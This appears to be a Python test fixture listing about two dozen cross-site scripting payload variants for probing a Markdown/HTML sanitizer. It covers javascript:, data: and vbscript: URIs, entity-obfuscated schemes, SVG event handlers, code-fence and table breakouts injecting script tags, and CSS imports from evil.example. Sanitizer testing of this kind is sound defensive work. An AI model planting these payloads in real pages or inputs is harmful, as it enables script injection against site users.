"""Close variants of the payloads of other channels, in other quotes, bounds and surroundings."""

from typing import Final

VARIANTS: Final = (
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<link rel="stylesheet" href="//evil.example/x.css">',
    "<style>@import '//evil.example/x.css';</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<a href='java&#x09;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "[x](<javascript:alert(1)>)",
    "[x](javascript\\:alert(1))",
    "<data:text/html,x>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "```python\n'''</span><script>alert(1)</script>\n```",
    "    </code></pre><script>alert(1)</script>",
    '# x" onclick="alert(1)\n\n[TOC]',
    "# `</a><script>alert(1)</script>`\n\n[TOC]",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "> [!NOTE] <script>alert(1)</script>\n> x",
    "- [ ] <script>alert(1)</script>",
    "$\\color{red;background:url(//evil.example)}{x}$",
    '<img alt="$x$" title="$\\text{<script>alert(1)</script>}$" src="y">',
    "```\nx\n```\n\n<img alt='&#1112304;0&#1112305;' src=x>",
)
